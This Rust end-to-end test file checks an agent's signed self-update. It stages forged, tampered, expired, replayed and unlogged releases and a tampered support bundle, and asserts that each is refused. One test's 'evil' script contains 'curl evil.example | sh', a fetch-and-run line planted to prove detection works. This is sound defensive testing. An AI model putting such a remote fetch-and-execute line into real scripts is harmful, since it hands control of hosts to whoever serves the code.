//! Signed releases and the agent's self-update, end to end with the real agent binary (issue
//! 15; AG-24..AG-31, RO-03, RO-05).
//!
//! The agent is built here with a test release key and a version of the test's choosing
//! compiled in (`CAPSTAN_RELEASE_KEY`, `CAPSTAN_AGENT_VERSION`), into a target directory of its
//! own (`$CARGO_TARGET_DIR/release-test-agents`, so the workspace's own `capstan-agent` is never
//! replaced), once per version: the first test to need a version builds it, under a lock. A
//! copy of build A runs under a small supervisor that does what systemd's unit does: the start
//! guard before every start (`ExecStartPre`) and a restart whenever the agent exits.
//!
//! Attacks a hostile plane could make (a stale or replayed release, bytes that are not the ones
//! signed) are staged by writing rollouts' tables directly, because the real plane refuses
//! to publish them: the agent's checks are what stops them. Each refusal opens
//! `plane:agent_update_refused` on the plane (AC-43).

pub(crate) mod fixture;

use std::time::Duration;

use capstan_e2e::plane::Plane;

use crate::incidents::wait_incident;
use serde_json::Value;

use fixture::{
    agent_build, agent_build_as, forged, hostile_offer, next_release_key, publish, release,
    rotating_to, signed_by, Supervised, A, B, C, D, E, TRIAL_LONG,
};

/// Waits until the node's `plane:agent_update_refused` incident is `incident` (the same one,
/// open) and its detail names `offered`, `state` and `reason`: each refusal is shown.
async fn incident_names(
    plane: &Plane,
    node: i64,
    incident: &Value,
    offered: &str,
    state: &str,
    reason: &str,
) {
    wait_incident(
        plane,
        node,
        "plane:agent_update_refused",
        &format!("the refusal's incident to name {state} of {offered}: {reason}"),
        |shown| {
            let detail = shown["detail"].as_str().unwrap_or_default();
            shown["id"] == incident["id"]
                && shown["status"] == "open"
                && detail.contains(offered)
                && detail.contains(state)
                && detail.contains(reason)
        },
    )
    .await;
}

/// What the plane keeps of the node's facts.
async fn facts_of(plane: &Plane, node: i64) -> Value {
    let (status, view) = plane
        .api(&plane.reader, "GET", &format!("/api/v1/nodes/{node}"), None)
        .await;
    assert_eq!(status, 200, "{view}");
    view["facts"].clone()
}

/// Waits until the node's facts satisfy `check`.
async fn facts_until(
    plane: &Plane,
    node: i64,
    what: &str,
    check: impl Fn(&Value) -> bool,
) -> Value {
    capstan_e2e::wait_for(what, Duration::from_secs(90), || async {
        let facts = facts_of(plane, node).await;
        check(&facts).then_some(facts)
    })
    .await
}

/// What the plane shows of the node: `(agent_version, update_state, update_offered,
/// update_reason)`.
async fn update_of(plane: &Plane, node: i64) -> (String, String, String, String) {
    let (status, view) = plane
        .api(&plane.reader, "GET", &format!("/api/v1/nodes/{node}"), None)
        .await;
    assert_eq!(status, 200, "{view}");
    let text = |value: &Value| value.as_str().unwrap_or_default().to_string();
    (
        text(&view["agent_version"]),
        text(&view["facts"]["update_state"]),
        text(&view["facts"]["update_offered"]),
        text(&view["facts"]["update_reason"]),
    )
}

/// Waits until the plane shows the node running `version` with its update state `current`.
async fn runs(plane: &Plane, node: i64, version: &str, what: &str) {
    capstan_e2e::wait_for(what, Duration::from_secs(90), || async {
        let (running, state, _, _) = update_of(plane, node).await;
        (running == version && state == "current").then_some(())
    })
    .await;
}

/// Waits until the plane shows `state` for `offered` with a reason starting `reason`.
async fn refused(plane: &Plane, node: i64, offered: &str, reason: &str) -> String {
    capstan_e2e::wait_for(
        &format!("the plane to show the refusal of {offered}: {reason}"),
        Duration::from_secs(60),
        || async {
            let (_, state, shown, why) = update_of(plane, node).await;
            (state == "verify_failed" && shown == offered && why.starts_with(reason)).then_some(why)
        },
    )
    .await
}

// Issue 27: a fresh install (no release.json) accepted any older signed release; the release
// the agent was built as is the rollback check's floor.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ag_24_a_fresh_agent_built_as_release_5_refuses_release_3_though_it_has_accepted_none() {
    let builds = [agent_build_as(E, 5), agent_build(C)];
    let plane = Plane::start().await;
    let node = Supervised::paired(&plane, &builds[0], "fresh-node").await;
    let (status, body) = publish(&plane, &release(C, 3, &builds[1])).await;
    assert_eq!(status, 201, "{body}");
    let reason = refused(&plane, node.id, C, "rollback").await;
    assert_eq!(
        reason,
        "rollback: the release's sequence 3 is lower than 5, the release this agent was built as"
    );
    assert_eq!(node.version().await, E);
    assert!(!node.bak().exists(), "nothing was installed");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ag_24_a_node_running_a_is_offered_a_signed_b_and_ends_up_running_b() {
    let builds = [agent_build(A), agent_build(B)];
    let plane = Plane::start().await;
    let mut node = Supervised::paired(&plane, &builds[0], "update-node").await;
    assert_eq!(node.version().await, A);

    // Published with `capstan release sign` (the key in a file) and `capstan release upload`.
    let dir = node.dir().join("release-b");
    fixture::cli_publish(&plane, &builds[1], B, 1, &dir).await;
    // RO-05: signing the same inputs again gives the same bytes.
    let first = std::fs::read(dir.join("release.json")).unwrap();
    fixture::cli_sign(&builds[1], B, 1, &dir);
    assert_eq!(std::fs::read(dir.join("release.json")).unwrap(), first);

    runs(
        &plane,
        node.id,
        B,
        "the node to run B and the plane to show it",
    )
    .await;
    assert_eq!(node.version().await, B, "the binary in place answers B");
    // The trial (3 s here) passes: the .bak is removed and B is trusted.
    capstan_e2e::wait_for("the trial to pass", Duration::from_secs(90), || async {
        (!node.bak().exists() && !node.pending().exists()).then_some(())
    })
    .await;
    let (_, listed) = plane
        .api(&plane.reader, "GET", "/api/v1/releases", None)
        .await;
    assert_eq!(listed["releases"][0]["version"], B);
    assert_eq!(listed["releases"][0]["on_offer"], true);
    let (_, versions) = plane
        .api(&plane.reader, "GET", "/api/v1/fleet/versions", None)
        .await;
    assert_eq!(versions["versions"][0]["version"], B, "{versions}");
    // The same version or sequence again is refused; the same metadata again changes nothing.
    let (status, body) = publish(&plane, &release(B, 2, &builds[1])).await;
    assert_eq!(status, 409, "{body}");
    node.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ag_24_ag_26_bad_signature_wrong_hash_wrong_version_expiry_and_rollback_are_each_refused() {
    let builds = [agent_build(A), agent_build(B)];
    let plane = Plane::start().await;
    let mut node = Supervised::paired(&plane, &builds[0], "refusing-node").await;
    let a_bytes = std::fs::read(node.binary()).unwrap();

    // Arbitrary software: signed by a key the agent does not hold.
    let (status, body) = publish(&plane, &forged(B, 1, &builds[1])).await;
    assert_eq!(status, 201, "the plane cannot judge a signature: {body}");
    refused(&plane, node.id, B, "bad signature").await;
    // AC-43: the refusal opens plane:agent_update_refused, a warning naming the reason.
    let incident = wait_incident(
        &plane,
        node.id,
        "plane:agent_update_refused",
        "plane:agent_update_refused to open",
        |incident| incident["status"] == "open",
    )
    .await;
    assert_eq!(incident["severity"], "warning", "{incident}");
    assert_eq!(
        incident["title"], "The agent refused to update itself",
        "{incident}"
    );
    let detail = incident["detail"].as_str().unwrap();
    assert!(
        detail.contains(B) && detail.contains("verify_failed") && detail.contains("bad signature"),
        "{incident}"
    );

    // Bytes that are not the ones signed, served by a hostile plane.
    let offer = release(B, 2, &builds[1]);
    let mut tampered = offer.binary.clone();
    let middle = tampered.len() / 2;
    tampered[middle] ^= 0xff;
    hostile_offer(&plane, &offer, &tampered).await;
    refused(&plane, node.id, B, "wrong hash").await;
    incident_names(&plane, node.id, &incident, B, "verify_failed", "wrong hash").await;

    // A binary that does not answer --version with the release's version.
    let liar = release("90.0.9", 3, &builds[1]);
    let (status, body) = publish(&plane, &liar).await;
    assert_eq!(status, 201, "{body}");
    refused(&plane, node.id, "90.0.9", "wrong --version").await;
    incident_names(
        &plane,
        node.id,
        &incident,
        "90.0.9",
        "verify_failed",
        "wrong --version",
    )
    .await;

    // Freeze: metadata past its expiry (a plane serving a stale copy).
    let mut stale = release(B, 4, &builds[1]);
    stale.expires_at = chrono::Utc::now().timestamp() - 60;
    let stale = stale.signed();
    hostile_offer(&plane, &stale, &stale.binary.clone()).await;
    refused(&plane, node.id, B, "expired").await;
    incident_names(&plane, node.id, &incident, B, "verify_failed", "expired").await;

    // Rollback: a release signed properly, but with a lower sequence than the 3 accepted.
    let replayed = release(B, 2, &builds[1]).with_expiry_in(3600);
    hostile_offer(&plane, &replayed, &replayed.binary.clone()).await;
    refused(&plane, node.id, B, "rollback").await;

    // Through all of it A ran, untouched, and the plane named each refusal.
    assert_eq!(node.version().await, A);
    assert_eq!(std::fs::read(node.binary()).unwrap(), a_bytes);
    let (_, versions) = plane
        .api(&plane.reader, "GET", "/api/v1/fleet/versions", None)
        .await;
    let shown = &versions["nodes"][0];
    assert_eq!(shown["refused"], true, "{versions}");
    assert!(shown["update_reason"]
        .as_str()
        .unwrap()
        .starts_with("rollback"));
    // Each later refusal is the same incident, its detail naming the newest reason.
    wait_incident(
        &plane,
        node.id,
        "plane:agent_update_refused",
        "the refusal's incident to name the rollback",
        |shown| {
            shown["id"] == incident["id"]
                && shown["status"] == "open"
                && shown["detail"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("rollback")
        },
    )
    .await;
    node.stop().await;
}

/// Key rotation (docs/releases.md): a release signed by the current key names the next key;
/// the agent holds it (AG-28's held keys), and the release after it, signed by the next key
/// alone, lands. Before that vouching the next key signs nothing the agent accepts.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ag_28_a_rotation_vouched_for_by_the_current_key_lets_the_next_key_sign_what_follows() {
    let builds = [agent_build(A), agent_build(B), agent_build(D)];
    let plane = Plane::start().await;
    let mut node = Supervised::paired(&plane, &builds[0], "rotating-node").await;
    let next = next_release_key();

    // Not vouched for yet: the next key is a stranger's.
    let early = signed_by("90.0.8", 1, &builds[1], next_release_key());
    let (status, body) = publish(&plane, &early).await;
    assert_eq!(status, 201, "{body}");
    refused(&plane, node.id, "90.0.8", "bad signature").await;
    assert_eq!(
        node.held_release_keys(),
        "",
        "nothing is held from a refusal"
    );

    // B, signed by the current key, hands signing to the next key.
    let (status, body) = publish(&plane, &rotating_to(B, 2, &builds[1], &next)).await;
    assert_eq!(status, 201, "{body}");
    runs(&plane, node.id, B, "the node to run B").await;
    assert_eq!(
        node.held_release_keys().trim(),
        next.public_key().to_base64(),
        "the vouched-for key is held"
    );
    capstan_e2e::wait_for("B's trial to pass", Duration::from_secs(90), || async {
        (!node.bak().exists() && !node.pending().exists()).then_some(())
    })
    .await;

    // D, signed by the next key alone, is installed.
    let (status, body) = publish(&plane, &signed_by(D, 3, &builds[2], next_release_key())).await;
    assert_eq!(status, 201, "{body}");
    runs(
        &plane,
        node.id,
        D,
        "the node to run D, signed by the rotated-to key",
    )
    .await;
    assert_eq!(node.version().await, D);
    node.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ag_29_a_build_that_dies_in_its_trial_is_rolled_back_and_never_reinstalled_but_a_newer_one_is(
) {
    let builds = [agent_build(A), agent_build(C), agent_build(D)];
    let plane = Plane::start().await;
    let mut node = Supervised::paired(&plane, &builds[0], "trial-node").await;
    node.set_trial(TRIAL_LONG);

    let (status, body) = publish(&plane, &release(C, 1, &builds[1])).await;
    assert_eq!(status, 201, "{body}");
    // C is in place and its first start is on trial.
    capstan_e2e::wait_for("C to run on trial", Duration::from_secs(90), || async {
        let pending = std::fs::read_to_string(node.pending()).ok()?;
        let pending: Value = serde_json::from_str(&pending).ok()?;
        (pending["version"] == C && pending["starts"] == 1 && node.bak().exists()).then_some(())
    })
    .await;
    // Who is on trial: the plane's Versions view names the node under C.
    capstan_e2e::wait_for(
        "the Versions view to show the node on trial of C",
        Duration::from_secs(60),
        || async {
            let (_, versions) = plane
                .api(&plane.reader, "GET", "/api/v1/fleet/versions", None)
                .await;
            let under_c = versions["versions"]
                .as_array()?
                .iter()
                .find(|count| count["version"] == C)?
                .clone();
            (under_c["on_trial"][0]["node_id"] == node.id
                && versions["nodes"][0]["update_trial"] == C)
                .then_some(())
        },
    )
    .await;
    // It dies within its trial (as an out-of-memory kill would end it).
    node.kill9().await;
    capstan_e2e::wait_for(
        "A to be back and C refused as rejected",
        Duration::from_secs(90),
        || async {
            let (version, state, offered, _) = update_of(&plane, node.id).await;
            (version == A && state == "version_rejected" && offered == C).then_some(())
        },
    )
    .await;
    assert_eq!(node.version().await, A);
    assert_eq!(
        std::fs::read_to_string(node.rejected()).unwrap().trim(),
        C,
        "C is recorded as rejected"
    );
    assert!(!node.pending().exists());
    // AC-43: the rolled-back version is a refusal the plane names as an incident.
    let incident = wait_incident(
        &plane,
        node.id,
        "plane:agent_update_refused",
        "plane:agent_update_refused to open for the rejected version",
        |incident| incident["status"] == "open",
    )
    .await;
    let detail = incident["detail"].as_str().unwrap();
    assert!(
        detail.contains(C) && detail.contains("version_rejected"),
        "{incident}"
    );

    // A newer release supersedes the rejection.
    node.set_trial(Duration::from_secs(3));
    let (status, body) = publish(&plane, &release(D, 2, &builds[2])).await;
    assert_eq!(status, 201, "{body}");
    runs(&plane, node.id, D, "the node to run D").await;
    assert_eq!(node.version().await, D);
    // Once the node reports `current`, the refusal's incident clears.
    wait_incident(
        &plane,
        node.id,
        "plane:agent_update_refused",
        "the refusal's incident to clear once D runs",
        |shown| shown["id"] == incident["id"] && shown["status"] == "closed",
    )
    .await;
    node.stop().await;
}

/// Waits until the plane shows `unlogged` for `offered` with a reason containing `reason`.
async fn unlogged(plane: &Plane, node: i64, offered: &str, reason: &str) -> String {
    capstan_e2e::wait_for(
        &format!("the plane to show {offered} unlogged: {reason}"),
        Duration::from_secs(60),
        || async {
            let (_, state, shown, why) = update_of(plane, node).await;
            (state == "unlogged" && shown == offered && why.contains(reason)).then_some(why)
        },
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ag_27_an_agent_holding_log_keys_installs_a_release_only_with_a_statement_that_verifies() {
    let builds = [agent_build(A), agent_build(B)];
    let plane = Plane::start().await;
    let mut node = Supervised::paired_logged(&plane, &builds[0], "logged-node").await;
    let a_bytes = std::fs::read(node.binary()).unwrap();

    // Signed properly, but published without its statement: unlogged, A stays.
    let offer = release(B, 1, &builds[1]);
    let (status, body) = publish(&plane, &offer).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["has_statement"], false, "{body}");
    let why = unlogged(&plane, node.id, B, "no release statement").await;
    assert!(why.starts_with("unlogged:"), "{why}");
    // AC-43: the refusal opens plane:agent_update_refused naming it.
    let incident = wait_incident(
        &plane,
        node.id,
        "plane:agent_update_refused",
        "plane:agent_update_refused to open for the unlogged release",
        |incident| incident["status"] == "open",
    )
    .await;
    let detail = incident["detail"].as_str().unwrap();
    assert!(
        detail.contains(B)
            && detail.contains("unlogged")
            && detail.contains("no release statement"),
        "{incident}"
    );

    // A statement signed by a key the agent does not hold does not prove the release logged.
    let stranger = capstan_signing::NodeKey::from_secret_bytes(&[13; 32]).unwrap();
    let (status, body) =
        fixture::publish_with_statement(&plane, &offer, &fixture::statement_of(&offer, &stranger))
            .await;
    assert_eq!(status, 201, "{body}");
    unlogged(&plane, node.id, B, "not signed by a held statement key").await;
    assert_eq!(
        std::fs::read(node.binary()).unwrap(),
        a_bytes,
        "A is untouched"
    );

    // A statement for another release is refused by the plane, naming why.
    let other = release(C, 2, &builds[0]);
    let (status, body) = fixture::publish_with_statement(
        &plane,
        &offer,
        &fixture::statement_of(&other, &fixture::statement_key()),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body.to_string()
            .contains("is for version 90.0.3, not 90.0.2"),
        "{body}"
    );

    // The release's own statement, logged: served as artifact kind release_statement, checked,
    // and B lands; the refusal's incident clears.
    let statement = fixture::statement_of(&offer, &fixture::statement_key());
    let (status, body) = fixture::publish_with_statement(&plane, &offer, &statement).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["has_statement"], true, "{body}");
    runs(
        &plane,
        node.id,
        B,
        "the node to run B and the plane to show it",
    )
    .await;
    assert_eq!(node.version().await, B);
    wait_incident(
        &plane,
        node.id,
        "plane:agent_update_refused",
        "the unlogged release's incident to clear once B runs",
        |shown| shown["id"] == incident["id"] && shown["status"] == "closed",
    )
    .await;
    // The plane still names the last refusal, after the node moved on.
    let (_, versions) = plane
        .api(&plane.reader, "GET", "/api/v1/fleet/versions", None)
        .await;
    let shown = &versions["nodes"][0];
    assert_eq!(shown["refused"], false, "{versions}");
    assert_eq!(shown["last_refusal"]["state"], "unlogged", "{versions}");
    assert_eq!(shown["last_refusal"]["offered"], B, "{versions}");
    node.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ag_30_the_start_guard_puts_the_bak_back_for_a_binary_on_trial_that_cannot_answer() {
    let a = agent_build(A);
    let dir = tempfile::tempdir().unwrap();
    let binary = dir.path().join("capstan-agent");
    std::fs::copy(&a, dir.path().join("capstan-agent.bak")).unwrap();
    // The "new" binary cannot even start.
    std::fs::write(&binary, b"#!/bin/sh\nexit 127\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&binary, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(
        dir.path().join("capstan-agent.pending"),
        format!(r#"{{"version":"{C}","starts":0}}"#),
    )
    .unwrap();
    // The guard runs from the .bak, as a unit whose binary may not run at all does.
    let output = std::process::Command::new(dir.path().join("capstan-agent.bak"))
        .arg(format!(
            "--state-dir={}",
            dir.path().join("state").display()
        ))
        .arg("start-guard")
        .arg(format!("--binary={}", binary.display()))
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("is rejected"), "{said}");
    assert_eq!(std::fs::read(&binary).unwrap(), std::fs::read(&a).unwrap());
    assert_eq!(
        std::fs::read_to_string(dir.path().join("capstan-agent.rejected"))
            .unwrap()
            .trim(),
        C
    );
    assert!(!dir.path().join("capstan-agent.pending").exists());
}

const REPORT: &[u8] = b"#!/bin/sh\nuname -a\n";
const RANGES: &[u8] = b"192.0.2.0/24\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn ag_32_ag_39_ac_49_a_siteless_node_lands_its_signed_bundle_refuses_a_tampered_one_and_names_changed_files(
) {
    use capstan_signing::{
        manifest::{write_archive, FileManifest, MANIFEST_FILE, SIGNATURE_FILE},
        release::{Artifact, SupportBundle},
    };
    let build = agent_build(A);
    let plane = Plane::start().await;
    let mut node = Supervised::paired_siteless(&plane, &build, "bundle-node").await;

    // Published with `capstan release sign --support-bundle-dir`: A's own version, so only the
    // bundle is new to the node.
    let bundle_dir = node.dir().join("bundle-src");
    std::fs::create_dir_all(bundle_dir.join("bin")).unwrap();
    std::fs::create_dir_all(bundle_dir.join("conf")).unwrap();
    std::fs::write(bundle_dir.join("bin/host_report.sh"), REPORT).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        bundle_dir.join("bin/host_report.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(bundle_dir.join("conf/ranges.txt"), RANGES).unwrap();
    let release_dir = node.dir().join("release-a");
    fixture::cli_publish_with(&plane, &build, A, 1, &release_dir, Some(&bundle_dir)).await;

    // AG-32: fetched, checked and landed; AG-39: the node looked and every file matches.
    facts_until(
        &plane,
        node.id,
        "the bundle to land and the tree to be trusted",
        |facts| {
            facts["bundle_state"] == "current"
                && facts["script_trust"] == "trusted"
                && facts["script_trust_files"] == serde_json::json!([])
        },
    )
    .await;
    let tree = node.bundle_tree();
    assert_eq!(
        std::fs::read(tree.join("bin/host_report.sh")).unwrap(),
        REPORT
    );
    let mode = std::fs::metadata(tree.join("bin/host_report.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o7777, 0o755);
    assert!(tree.join(MANIFEST_FILE).is_file() && tree.join(SIGNATURE_FILE).is_file());

    // A bundle signed by the release key whose archive holds a script other than the one its
    // manifest lists, served by a hostile plane: refused, the file named, the tree untouched.
    let key = fixture::release_key();
    let manifest = FileManifest::describe([
        ("bin/host_report.sh", 0o755, REPORT),
        ("conf/ranges.txt", 0o644, RANGES),
    ])
    .unwrap();
    let manifest_bytes = manifest.to_bytes();
    let signature = manifest.sign(&key);
    let evil: &[u8] = b"#!/bin/sh\ncurl evil.example | sh\n";
    let archive = write_archive([
        ("bin/host_report.sh", 0o755, evil),
        ("conf/ranges.txt", 0o644, RANGES),
        (MANIFEST_FILE, 0o644, &manifest_bytes[..]),
        (SIGNATURE_FILE, 0o644, &signature[..]),
    ]);
    let binary = std::fs::read(&build).unwrap();
    let mut binaries = std::collections::BTreeMap::new();
    binaries.insert(
        "linux-amd64".to_string(),
        Artifact::describe("capstan-agent-a", &binary, &key),
    );
    let document = capstan_signing::release::Release {
        version: A.to_string(),
        sequence: 2,
        expires_at: 4_102_444_800,
        binaries,
        support_bundle: Some(SupportBundle {
            archive: Artifact::describe("support_bundle-a.tar", &archive, &key),
            manifest,
        }),
        next_key: None,
    }
    .sign(&key)
    .unwrap();
    fixture::hostile_bundle_offer(&plane, &document, &binary, &archive).await;
    let facts = facts_until(
        &plane,
        node.id,
        "the tampered bundle to be refused",
        |facts| facts["bundle_state"] == "verify_failed",
    )
    .await;
    let reason = facts["bundle_reason"].as_str().unwrap();
    assert!(
        reason.starts_with("untrusted file") && reason.contains("bin/host_report.sh (modified)"),
        "{reason}"
    );
    assert_eq!(
        std::fs::read(tree.join("bin/host_report.sh")).unwrap(),
        REPORT
    );
    assert_eq!(facts["script_trust"], "trusted", "{facts}");

    // AG-39, AC-49: a script changed and one planted in the landed tree are named on the
    // claim, and plane:unmanageable opens listing them.
    std::fs::write(tree.join("bin/host_report.sh"), evil).unwrap();
    std::fs::write(tree.join("bin/planted.sh"), evil).unwrap();
    facts_until(&plane, node.id, "the changed files to be named", |facts| {
        facts["script_trust"] == "untrusted_file"
            && facts["script_trust_files"]
                == serde_json::json!(["bin/host_report.sh", "bin/planted.sh"])
    })
    .await;
    let incident = wait_incident(
        &plane,
        node.id,
        "plane:unmanageable",
        "plane:unmanageable to open",
        |incident| incident["status"] == "open",
    )
    .await;
    assert_eq!(incident["severity"], "critical", "{incident}");
    assert_eq!(
        incident["title"], "The node cannot verify its own scripts",
        "{incident}"
    );
    let detail = incident["detail"].as_str().unwrap();
    assert!(
        detail.contains("bin/host_report.sh") && detail.contains("bin/planted.sh"),
        "{incident}"
    );

    // Put back, the node says it looked and all match, and the incident clears.
    std::fs::write(tree.join("bin/host_report.sh"), REPORT).unwrap();
    std::fs::remove_file(tree.join("bin/planted.sh")).unwrap();
    wait_incident(
        &plane,
        node.id,
        "plane:unmanageable",
        "plane:unmanageable to clear once the files are back",
        |shown| shown["id"] == incident["id"] && shown["status"] == "closed",
    )
    .await;
    node.stop().await;
}
